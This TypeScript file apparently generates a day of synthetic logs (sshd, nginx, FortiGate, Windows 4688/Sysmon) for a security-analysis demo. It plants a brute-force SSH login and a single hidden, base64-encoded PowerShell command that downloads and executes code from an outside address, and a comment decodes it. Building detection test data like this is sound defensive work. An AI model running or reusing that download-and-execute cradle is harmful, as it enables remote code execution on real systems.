// A day of log lines for the demo estate, written for secai: sshd on the Linux servers (with one
// brute force that ends in a login), nginx access logs on the web servers, FortiGate-style
// firewall records from the VPN gateways, and Windows process creation (Security 4688, Sysmon 1)
// on the domain controllers and workstations, with one encoded PowerShell. The same `end` gives
// the same lines: a seeded generator, so the demo and its tests agree.
import { SITES } from './catalog.js';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** mulberry32: small, fast, and the same on every machine. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const hostsOf = (prefix: string, count: number) =>
  SITES.flatMap((site) => Array.from({ length: count }, (_, i) => `${prefix}-${String(i + 1).padStart(2, '0')}.${site}.corp.example`));

const LINUX = [...hostsOf('web', 2), ...hostsOf('api', 2), ...hostsOf('ci', 2)];
const WEB = hostsOf('web', 2);
const VPN = hostsOf('vpn', 2);
const WINDOWS = [...hostsOf('dc', 2), ...hostsOf('ws', 5)];
const USERS = ['alice', 'bob', 'carol', 'deploy', 'jenkins', 'svc-backup'];
const PATHS = ['/', '/login', '/api/v1/orders', '/api/v1/cart', '/static/app.js', '/static/site.css', '/health', '/search?q=shoes'];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'curl/8.5.0',
  'python-requests/2.32.3',
];
const PROCESSES = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p'],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
  ],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /groups'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=renderer'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -File C:\\scripts\\inventory.ps1'],
];
/** `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')`, UTF-16LE base64: the demo's one malicious command. */
const ENCODED =
  'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEAJwApAA==';

const pick = <T>(rnd: () => number, list: readonly T[]): T => list[Math.floor(rnd() * list.length)] as T;
const pad = (n: number, w = 2) => String(n).padStart(w, '0');
const rfc3164Time = (d: Date) =>
  `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
const accessTime = (d: Date) =>
  `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
const outsideIp = (rnd: () => number) => `198.51.100.${1 + Math.floor(rnd() * 250)}`;
const insideIp = (rnd: () => number) => `10.${10 + Math.floor(rnd() * 3)}.${1 + Math.floor(rnd() * 9)}.${10 + Math.floor(rnd() * 5)}`;

function sshd(rnd: () => number, t: Date): string {
  const host = pick(rnd, LINUX);
  const pid = 1000 + Math.floor(rnd() * 60000);
  const port = 30000 + Math.floor(rnd() * 30000);
  const r = rnd();
  const body =
    r < 0.5
      ? `Accepted publickey for ${pick(rnd, USERS)} from ${insideIp(rnd)} port ${port} ssh2: ED25519 SHA256:Zm9vYmFyYmF6cXV4`
      : r < 0.8
        ? `Failed password for invalid user ${pick(rnd, ['admin', 'oracle', 'test', 'ubuntu', 'pi'])} from ${outsideIp(rnd)} port ${port} ssh2`
        : `Connection closed by ${outsideIp(rnd)} port ${port} [preauth]`;
  return `<38>${rfc3164Time(t)} ${host} sshd[${pid}]: ${body}`;
}

function access(rnd: () => number, t: Date): string {
  const status = pick(rnd, [200, 200, 200, 200, 304, 301, 404, 404, 500, 403]);
  const method = rnd() < 0.8 ? 'GET' : 'POST';
  const bytes = status === 304 ? 0 : 200 + Math.floor(rnd() * 50000);
  return `${outsideIp(rnd)} - - [${accessTime(t)}] "${method} ${pick(rnd, PATHS)} HTTP/1.1" ${status} ${bytes} "-" "${pick(rnd, AGENTS)}"`;
}

function firewall(rnd: () => number, t: Date): string {
  const host = pick(rnd, VPN);
  const deny = rnd() < 0.3;
  const date = `${t.getUTCFullYear()}-${pad(t.getUTCMonth() + 1)}-${pad(t.getUTCDate())}`;
  const time = `${pad(t.getUTCHours())}:${pad(t.getUTCMinutes())}:${pad(t.getUTCSeconds())}`;
  const dstport = pick(rnd, [443, 443, 443, 22, 3389, 445, 53]);
  const kv = [
    `date=${date}`,
    `time=${time}`,
    `devname="${host.split('.')[0]}"`,
    'type="traffic"',
    'subtype="forward"',
    `srcip=${deny ? outsideIp(rnd) : insideIp(rnd)}`,
    `srcport=${1024 + Math.floor(rnd() * 60000)}`,
    `dstip=${deny ? insideIp(rnd) : `203.0.113.${1 + Math.floor(rnd() * 120)}`}`,
    `dstport=${dstport}`,
    `proto=${dstport === 53 ? 17 : 6}`,
    `action="${deny ? 'deny' : 'accept'}"`,
    `policyid=${deny ? 0 : 12}`,
    `sentbyte=${Math.floor(rnd() * 90000)}`,
  ];
  return `<189>${rfc3164Time(t)} ${host} fortigate: ${kv.join(' ')}`;
}

function processCreation(rnd: () => number, t: Date, commandLine?: string): string {
  const host = pick(rnd, WINDOWS);
  const [image, line] = commandLine
    ? ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine]
    : pick(rnd, PROCESSES);
  const user = pick(rnd, ['alice', 'bob', 'carol']);
  const sysmon = rnd() < 0.5;
  const record = {
    '@timestamp': t.toISOString(),
    host: { name: host },
    winlog: sysmon
      ? {
          channel: 'Microsoft-Windows-Sysmon/Operational',
          provider_name: 'Microsoft-Windows-Sysmon',
          event_id: '1',
          computer_name: host,
          event_data: {
            Image: image,
            CommandLine: line,
            ParentImage: 'C:\\Windows\\explorer.exe',
            User: `CORP\\${user}`,
            ProcessId: String(1000 + Math.floor(rnd() * 9000)),
            IntegrityLevel: 'Medium',
          },
        }
      : {
          channel: 'Security',
          provider_name: 'Microsoft-Windows-Security-Auditing',
          event_id: '4688',
          computer_name: host,
          event_data: {
            NewProcessName: image,
            CommandLine: line,
            ParentProcessName: 'C:\\Windows\\explorer.exe',
            SubjectUserName: user,
            SubjectDomainName: 'CORP',
            NewProcessId: `0x${(1000 + Math.floor(rnd() * 9000)).toString(16)}`,
          },
        },
  };
  return JSON.stringify(record);
}

/**
 * `count` lines spread over the 24 hours before `end`, oldest first: a third sshd, a third web
 * access, the rest firewall and Windows process creation. Twenty failed root logins from one
 * address, then its successful login, sit two hours before `end`; one encoded PowerShell an hour
 * before.
 */
export function demoLogLines(end: Date, count = 20_000): string[] {
  const rnd = random(0x5eca1);
  const start = end.getTime() - 86_400_000;
  const lines: { at: number; line: string }[] = [];
  for (let i = 0; i < count; i++) {
    const at = start + Math.floor(rnd() * 86_400_000);
    const t = new Date(at);
    const r = rnd();
    const line = r < 0.33 ? sshd(rnd, t) : r < 0.66 ? access(rnd, t) : r < 0.85 ? firewall(rnd, t) : processCreation(rnd, t);
    lines.push({ at, line });
  }
  const attack = end.getTime() - 2 * 3_600_000;
  const target = WEB[0] as string;
  for (let i = 0; i <= 20; i++) {
    const t = new Date(attack + i * 3_000);
    const body =
      i < 20
        ? `Failed password for root from 192.0.2.66 port ${40000 + i} ssh2`
        : 'Accepted password for root from 192.0.2.66 port 40020 ssh2';
    lines.push({ at: t.getTime(), line: `<38>${rfc3164Time(t)} ${target} sshd[4242]: ${body}` });
  }
  const encodedAt = end.getTime() - 3_600_000;
  lines.push({ at: encodedAt, line: processCreation(rnd, new Date(encodedAt), ENCODED) });
  return lines.sort((a, b) => a.at - b.at).map((l) => l.line);
}
